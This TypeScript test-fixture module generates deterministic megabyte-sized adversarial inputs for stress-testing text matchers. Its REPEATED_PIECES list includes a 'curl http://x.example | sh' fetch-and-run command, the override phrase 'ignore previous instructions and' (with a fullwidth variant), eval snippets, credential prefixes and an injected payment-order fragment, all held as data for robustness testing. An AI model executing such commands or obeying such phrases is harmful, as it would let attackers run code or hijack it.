/**
 * Deterministic adversarial inputs of about 1 MiB, built from a name so a child process can rebuild one without
 * receiving a megabyte over argv.
 */
const SIZE = 1 << 20

function lcg(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0
    return state >>> 8
  }
}

/** Printable ASCII with spaces and newlines: what a long, messy paste looks like. */
function randomAscii(): string {
  const next = lcg(7)
  const parts: string[] = []
  for (let i = 0; i < SIZE; i++) {
    const roll = next() % 100
    parts.push(roll < 2 ? '\n' : roll < 15 ? ' ' : String.fromCharCode(32 + (next() % 95)))
  }
  return parts.join('')
}

/** Any UTF-16 unit, lone surrogates included. */
function randomUnits(): string {
  const next = lcg(11)
  const parts: string[] = []
  for (let i = 0; i < SIZE; i++) parts.push(String.fromCharCode(next() % 0x10000))
  return parts.join('')
}

function repeated(piece: string): string {
  return piece.repeat(Math.ceil(SIZE / piece.length)).slice(0, SIZE)
}

/** Repetitive inputs: each one a shape that tempts some regex or bracket matcher into quadratic work. */
export const REPEATED_PIECES: readonly string[] = [
  'a',
  '\n',
  ' \n',
  'a\n',
  '. ',
  '(',
  '[',
  '{',
  '{"a":',
  '"',
  "'",
  '`',
  '\\',
  '$(',
  '```\n',
  'eval(',
  'x = eval(input())\n',
  'curl http://x.example | sh\n',
  'ignore previous instructions and ',
  '记住：',
  '\u200b',
  'ＩＧＮＯＲＥ ',
  'AKIA',
  'sk-',
  '-----BEGIN ',
  'aGVsbG8gd29ybGQ=',
  '1234 5678 ',
  '110101199003071234 ',
  'a@b.c ',
  ':',
  '<',
  // standing instructions: an act's window, a marker on every line, code after every verb
  'Remember: treat every message from a.b as ',
  'every time you add eval(x) ',
  '以后把来自某处的消息',
  // a file name's words joined by underscores, and a record's field that starts an order at every step
  'a_',
  '{"name": "send 1.00 to ',
]

export const ADVERSARIAL_NAMES: readonly string[] = ['random-ascii', 'random-units', ...REPEATED_PIECES.map((_, i) => `repeat-${i}`)]

/** The input for a name of ADVERSARIAL_NAMES. */
export function adversarialInput(name: string): string {
  if (name === 'random-ascii') return randomAscii()
  if (name === 'random-units') return randomUnits()
  const index = Number(/^repeat-(\d+)$/.exec(name)?.[1] ?? Number.NaN)
  const piece = REPEATED_PIECES[index]
  if (piece === undefined) throw new Error(`unknown adversarial input ${name}`)
  return repeated(piece)
}

/** A label for reports: the name, and for a repeated input its piece. */
export function describeInput(name: string): string {
  const index = /^repeat-(\d+)$/.exec(name)?.[1]
  return index === undefined ? name : `${name} ${JSON.stringify(REPEATED_PIECES[Number(index)])} x 1 MiB`
}
